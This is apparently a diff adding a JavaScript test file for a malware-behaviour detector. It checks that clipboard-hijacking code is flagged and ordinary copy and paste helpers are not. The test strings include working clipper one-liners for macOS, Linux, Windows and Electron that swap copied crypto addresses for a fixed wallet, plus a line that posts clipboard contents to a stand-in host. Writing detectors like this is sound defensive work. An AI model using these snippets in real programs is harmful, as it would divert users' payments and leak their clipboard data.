@@ -1,0 +1,34 @@
+import assert from 'node:assert/strict';
+import { behavioursOf, flowsOf } from './sent.js';
+
+const OWN = "'0x71C7656EC7ab88b098defB751B7401B5f6d8976F'";
+const REPLACED = ['replaces-addresses import'];
+
+describe('the clipboard', () => {
+  for (const code of [
+    `setInterval(() => { const t = cp.execSync('pbpaste').toString(); if (/^0x/.test(t)) cp.execSync('pbcopy', { input: ${OWN} }); }, 800);`,
+    `const rules = [[/^0x[0-9a-f]{40}$/i, ${OWN}]]; setInterval(() => { const t = String(cp.execSync('xclip -o'));
+      for (const [re, to] of rules) if (re.test(t)) { const c = cp.spawn('xclip', ['-i']); c.stdin.end(to); } }, 800);`,
+    `cp.exec('powershell Get-Clipboard', (e, t) => { if (/^0x/.test(t)) cp.exec('powershell Set-Clipboard ' + ${OWN}); });`,
+    `const { clipboard } = require('electron'); setInterval(() => { if (/^0x/.test(clipboard.readText())) clipboard.writeText(${OWN}); }, 500);`,
+  ])
+    it(`has an address put into it by ${code}`, () => {
+      assert.deepEqual([...new Set(behavioursOf(code))], REPLACED);
+    });
+
+  it('is read and sent by programs of the system, too', () => {
+    const code = `setInterval(() => fetch('https://collect.invalid', { method: 'POST', body: cp.execSync('pbpaste').toString() }), 800);`;
+    assert.deepEqual(flowsOf(code), ['clipboard>network@collect.invalid']);
+  });
+
+  it('may be given what a command line prints, or be shown', () => {
+    for (const code of [
+      `exports.copy = (text) => { const c = cp.spawn('pbcopy'); c.stdin.end(text); };`,
+      `cp.execSync('pbcopy', { input: ${OWN} });`,
+      `exports.paste = () => cp.execSync('pbpaste').toString();`,
+    ]) {
+      assert.deepEqual(behavioursOf(code), [], code);
+      assert.deepEqual(flowsOf(code), [], code);
+    }
+  });
+});
